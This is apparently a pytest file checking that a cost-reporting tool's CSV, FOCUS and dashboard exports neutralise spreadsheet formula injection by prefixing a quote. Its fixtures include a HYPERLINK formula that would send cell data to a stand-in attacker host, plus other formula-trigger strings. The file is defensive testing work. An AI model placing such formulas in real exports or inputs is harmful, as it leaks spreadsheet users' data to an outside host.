"""Row 5: attribution a client sends never becomes a live formula in a CSV we write."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from decimal import Decimal

import pandas as pd
import pytest
from typer.testing import CliRunner

from collector.cli import app
from collector.reports import FOCUS_COLUMNS, csv_safe
from dashboard.tables import csv_download
from tests.gateway._support import GatewayFactory

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
PROJECT = "@SUM(1+1)*cmd"
CHAT = {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "hi"}]}


def _report(url: str, monkeypatch: pytest.MonkeyPatch, *args: str) -> list[dict[str, str]]:
    monkeypatch.setenv("SPENDSCOPE_DATABASE_URL", url)
    month = f"{datetime.now(UTC):%Y-%m}"
    result = CliRunner().invoke(app, ["report", "--month", month, *args])
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.stdout)))


def test_reports_neutralise_formulas_and_focus_stays_valid(
    gateway_on: GatewayFactory, migrated_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    gw = gateway_on()
    client = gw.client(gw.key(project=PROJECT))
    client.chat.completions.create(**CHAT, extra_headers={"x-spendscope-user": FORMULA})  # type: ignore[call-overload]
    gw.requests()  # flushed
    rows = _report(migrated_url, monkeypatch, "--group-by", "user", "--format", "csv")
    assert [r["group"] for r in rows] == ["'" + FORMULA, "(total)"]
    assert Decimal(rows[0]["cost_usd"]) > 0
    focus = _report(migrated_url, monkeypatch, "--format", "focus")
    assert list(focus[0]) == list(FOCUS_COLUMNS)
    assert focus[0]["SubAccountName"] == "'" + PROJECT
    for column in ("BilledCost", "EffectiveCost", "ListCost", "ConsumedQuantity"):
        Decimal(focus[0][column])  # numbers stay numbers
    assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for r in focus for v in r.values())


def test_dashboard_downloads_neutralise_formulas() -> None:
    frame = pd.DataFrame(
        {
            "user": [FORMULA, "+1+1", "-2+3", "@x", "\tx", "\rx", "alice"],
            "cost_usd": [Decimal("-0.5"), Decimal(1), Decimal(2), 3, 4, 5, 6],
            "delta": ["-0.25", "+1", "1e5", "-1e-3", "-", "=", ""],
        }
    )
    payload = csv_download(frame, "users", datetime(2026, 12, 1, tzinfo=UTC))
    rows = list(csv.DictReader(io.StringIO(payload["content"], newline="")))
    assert [r["user"] for r in rows] == [
        "'" + FORMULA, "'+1+1", "'-2+3", "'@x", "'\tx", "'\rx", "alice"
    ]  # fmt: skip
    assert rows[0]["cost_usd"] == "-0.5"
    assert [r["delta"] for r in rows] == ["-0.25", "+1", "1e5", "-1e-3", "'-", "'=", ""]


@pytest.mark.parametrize("value", [None, 3, Decimal("-1.5"), "plain", "", "a=b"])
def test_harmless_values_are_unchanged(value: object) -> None:
    assert csv_safe(value) == value
